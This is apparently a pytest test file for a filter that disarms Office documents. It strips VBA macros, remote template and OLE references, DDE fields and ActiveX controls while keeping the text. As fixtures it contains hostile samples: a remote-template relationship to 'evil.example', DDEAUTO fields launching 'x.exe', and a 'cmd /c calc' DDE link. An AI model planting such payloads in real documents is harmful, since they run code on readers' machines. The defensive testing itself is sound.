"""IN-MACRO: disarmed documents still open, with their text and without what acted."""

import io
from collections.abc import Callable

import docx
import openpyxl
import pptx
import pytest

from filters.extract import extract
from filters.extract.budget import Budget
from filters.inbound.macro import ACTS
from filters.rewriters.office import disarmed
from tests.filters.rewriters.documents import armed, book, changed, members, packed, slides, word

SIGNS = frozenset(ACTS) | {"executable"}
REL = b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%b" Target="%b" TargetMode="External"/></Relationships>'


def clean(name: str, content: bytes) -> tuple[str, bytes]:
    before = extract(name, "", content, Budget())
    assert before.traits & SIGNS, "it acts before"
    answer = disarmed(name, content, SIGNS)
    assert answer is not None
    new, after, read = answer
    assert not read.traits & SIGNS
    for member, data in members(after).items():
        assert b"vbaProject" not in data, member
    return new, after


@pytest.mark.parametrize(
    ("name", "made", "after"),
    [("見積.docm", word, "見積.docx"), ("売上.xlsm", book, "売上.xlsx"), ("計画.pptm", slides, "計画.pptx")],
)
def test_macros_are_cut_out_and_the_document_opens(name: str, made: Callable[[], bytes], after: str) -> None:
    kind = name[-4:]
    new, content = clean(name, armed(made(), kind))
    assert new == after
    assert set(members(content)) == set(members(made())), "nothing else is missing"
    if kind == "docm":
        assert [p.text for p in docx.Document(io.BytesIO(content)).paragraphs] == ["御見積書 ¥120,000"]
    elif kind == "xlsm":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        assert (sheet["A1"].value, sheet["B1"].value) == ("売上", 1200)
    else:
        assert pptx.Presentation(io.BytesIO(content)).slides[0].shapes.title.text == "計画"


def test_all_else_keeps_its_bytes() -> None:
    before, (_, after) = members(word()), clean("a.docm", armed(word(), "docm"))
    same = {n for n, data in members(after).items() if data == before[n]}
    assert set(before) - same <= {"[Content_Types].xml", "word/_rels/document.xml.rels"}


@pytest.mark.parametrize("kind", [b"attachedTemplate", b"oleObject", b"frame", b"image"])
def test_what_is_fetched_from_elsewhere_is_fetched_no_more(kind: bytes) -> None:
    relation = REL % (kind, b"https://evil.example/x.dotm")
    _, after = clean("a.docx", changed(word(), "word/_rels/document.xml.rels", b"</Relationships>", relation))
    rels = members(after)["word/_rels/document.xml.rels"]
    assert b"evil.example" not in rels
    assert b'Id="rX"' in rels, "what refers to it still finds it"
    docx.Document(io.BytesIO(after))


def test_hyperlinks_stay() -> None:
    content = changed(
        armed(word(), "docm"),
        "word/_rels/document.xml.rels",
        b"</Relationships>",
        REL % (b"hyperlink", b"https://a.example/"),
    )
    assert b"https://a.example/" in members(clean("a.docm", content)[1])["word/_rels/document.xml.rels"]


@pytest.mark.parametrize(
    "field",
    [
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">DDEAUTO c:\\\\x.exe "a"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
        b'<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\x.exe</w:instrText></w:r>',
        b'<w:fldSimple w:instr="DDE c:\\\\x.exe a"><w:r><w:t>x</w:t></w:r></w:fldSimple>',
    ],
)  # fmt: skip
def test_dde_fields_lose_their_instruction(field: bytes) -> None:
    content = changed(word(), "word/document.xml", b"</w:p>", field + b"</w:p>")
    answer = disarmed("a.docx", content, SIGNS)
    assert answer is not None
    assert b"x.exe" not in members(answer[1])["word/document.xml"]
    docx.Document(io.BytesIO(answer[1]))


def test_a_dde_link_of_a_workbook() -> None:
    link = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    files = members(book()) | {"xl/externalLinks/externalLink1.xml": link}
    _, after = clean("a.xlsx", packed(files))
    assert b"calc" not in members(after)["xl/externalLinks/externalLink1.xml"]


def test_activex_keeps_its_place_and_loses_its_class() -> None:
    files = members(armed(word(), "docm"))
    files["word/activeX/activeX1.xml"] = (
        b'<ax:ocx ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}" r:id="rId1"/>'
    )
    files["word/activeX/activeX1.bin"] = b"\x01" * 100
    _, after = clean("a.docm", packed(files))
    assert b"8BD21D10" not in members(after)["word/activeX/activeX1.xml"]
    assert "word/activeX/activeX1.bin" not in members(after)


@pytest.mark.parametrize(
    "content",
    [
        b"PK not a zip",
        packed(members(word()) | {"xl/macrosheets/sheet1.xml": b"<x/>", "xl/workbook.xml": b"<x/>"}),
        packed(
            members(word())
            | {"word/embeddings/oleObject1.bin": b"MZ" + b"\0" * 500, "word/vbaProject.bin": b"x"}
        ),
        packed(members(word()) | {"word/settings.xml": "<x/>".encode("utf-16"), "word/vbaProject.bin": b"x"}),
        packed(
            members(word())
            | {"word/settings.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>', "word/vbaProject.bin": b"x"}
        ),
    ],
    ids=["no document", "Excel 4 macros", "a program inside", "XML in UTF-16", "a document type"],
)
def test_in_doubt_it_is_not_disarmed(content: bytes) -> None:
    assert disarmed("a.docx", content, SIGNS) is None


def test_add_ins_are_never_documents() -> None:
    assert disarmed("a.xlam", armed(book(), "xlsm"), SIGNS) is None
